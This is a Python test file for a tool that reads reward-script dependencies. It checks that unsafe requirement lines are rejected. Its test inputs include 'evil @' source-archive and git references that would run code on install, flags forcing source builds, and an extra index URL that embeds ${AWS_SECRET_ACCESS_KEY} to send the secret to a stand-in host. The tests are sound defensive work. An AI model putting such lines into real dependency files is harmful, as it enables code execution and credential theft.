"""What a reward asks for: inline metadata, the file beside it, files that are named."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rewardlab.aws.package.requirements import read_requirements
from rewardlab.errors import InputError

INLINE = """\
# /// script
# requires-python = ">=3.11"
# dependencies = [
#   "numpy>=2",
# ]
# ///
def score(c, r): return 1.0
"""


def roots(reward, *files):
    return [str(one) for one in read_requirements(reward, files).roots]


def test_inline_metadata_and_the_file_beside_count_together(project):
    asked = read_requirements(project(INLINE, **{"requirements.txt": "sympy==1.14.0\n"}))
    assert [str(one) for one in asked.roots] == ["sympy==1.14.0", "numpy>=2"]
    assert asked.arguments[0] == "-r"
    assert asked.arguments[2:] == ("numpy>=2",)
    assert asked.python is not None
    assert not asked.python.contains("3.10.0")


def test_named_files_replace_both(project):
    reward = project(INLINE, **{"requirements.txt": "sympy", "other.txt": "regex"})
    assert roots(reward, reward.parent / "other.txt") == ["regex"]


def test_nothing_asked_is_nothing(project):
    assert read_requirements(project()).roots == ()


def test_a_file_is_read_as_pip_reads_it(project):
    text = """\
        # a comment
        --index-url https://example.invalid/simple
        numpy>=2 ; python_version >= "3.11"  # why
        regex==2025.1.1 \\
            --hash=sha256:abcd
        -r more.txt
        wheels/tiny-1.2-py3-none-any.whl
        tiny2 @ file:///x/tiny2-1.0-py3-none-any.whl
        """
    lines = "\n".join(line.strip() for line in text.splitlines())
    reward = project(**{"requirements.txt": lines, "more.txt": "sympy\n-r requirements.txt"})
    assert roots(reward) == [
        'numpy>=2; python_version >= "3.11"',
        "regex==2025.1.1",
        "sympy",
        "tiny==1.2",
        "tiny2 @ file:///x/tiny2-1.0-py3-none-any.whl",
    ]


@pytest.mark.parametrize("line", ["./folder", "-e .", "git+https://example.invalid/x.git", "numpy==", "a.whl"])
def test_what_would_have_to_be_built_is_refused_with_its_line(project, line):
    reward = project(**{"requirements.txt": f"\n{line}\n"})
    with pytest.raises(InputError, match=r"requirements.txt:2: "):
        read_requirements(reward)


@pytest.mark.parametrize(
    ("block", "told"),
    [
        ("# dependencies = [", "no TOML"),
        ("# dependencies = 'numpy'", "no list of texts"),
        ("# dependencies = ['nu mpy']", "no requirement"),
        ("# requires-python = 3", "requires-python"),
        ("# [tool.rewardlab]\n# includes = []", "unknown key; expected one of include"),
        ("# [tool.rewardlab]\n# include = 'x'", "`include` is no list of texts"),
    ],
)
def test_a_bad_block_is_an_input_error(project, block, told):
    with pytest.raises(InputError, match=told):
        read_requirements(project(f"# /// script\n{block}\n# ///\n"))


@pytest.mark.parametrize(
    "line",
    [
        "evil @ https://example.invalid/evil-1.0.tar.gz",
        "evil @ file:///x/evil",
        "evil @ git+https://example.invalid/evil.git",
        "evil @ git+file:///x/evil.whl",
        "evil @ https://example.invalid/evil.zip#egg=x.whl",
        "evil[more] @ https://example.invalid/evil.tar.gz ; python_version > '3'",
        "--no-binary :all:",
        "--no-b=:all:",
        "--only-binary :none:",
        "--index-url https://example.invalid/simple --no-binary=:all:",
        "numpy --no-binary :all:",
        "numpy --config-settings=a=b",
        "--req more.txt",
        "-c constraints.txt",
        "-e git+https://example.invalid/x.git#egg=x",
        "--extra-index-url https://example.invalid/${AWS_SECRET_ACCESS_KEY}",
    ],
)
def test_what_would_run_code_or_send_what_is_not_its_own_is_refused_before_pip_is_called(project, line):
    reward = project(**{"requirements.txt": f"\n{line}\n", "constraints.txt": "\nevil @ file:///x/evil.tar.gz"})
    with pytest.raises(InputError, match=r"(requirements|constraints).txt:2: "):
        read_requirements(reward)


def test_so_is_a_direct_reference_in_the_files_own_block(project):
    block = "# /// script\n# dependencies = ['evil @ file:///x/evil-1.0.tar.gz']\n# ///\n"
    with pytest.raises(InputError, match="is no wheel: pip would run its code"):
        read_requirements(project(block))


@pytest.mark.parametrize(
    "line",
    [
        "--only-binary=:all:",
        "--index-url=https://example.invalid/simple --trusted-host example.invalid",
        "-fwheels --no-index --pre",
        "numpy==2.0 --hash=sha256:ab --hash sha256:cd",
        "-c bounds.txt",
    ],
)
def test_options_that_choose_and_do_not_build_are_left_to_pip(project, line):
    reward = project(**{"requirements.txt": f"{line}\nregex", "bounds.txt": "regex<9"})
    assert "regex" in roots(reward)
    assert read_requirements(reward).arguments[0] == "-r"


def test_two_blocks_are_refused(project):
    with pytest.raises(InputError, match="several blocks"):
        read_requirements(project(INLINE + INLINE))


def test_a_missing_file_is_an_input_error(project, tmp_path):
    with pytest.raises(InputError, match="cannot be read"):
        read_requirements(project(), [tmp_path / "none.txt"])


@given(text=st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
def test_any_text_is_read_or_an_input_error(tmp_path_factory, text):
    folder = tmp_path_factory.getbasetemp()
    reward = folder / "any.py"
    reward.write_text(f"# /// script\n# {text}\n# ///\n", encoding="utf-8", newline="")
    (folder / "any.txt").write_text(text, encoding="utf-8", newline="")
    for files in ((), (folder / "any.txt",)):
        with contextlib.suppress(InputError):
            read_requirements(reward, files)
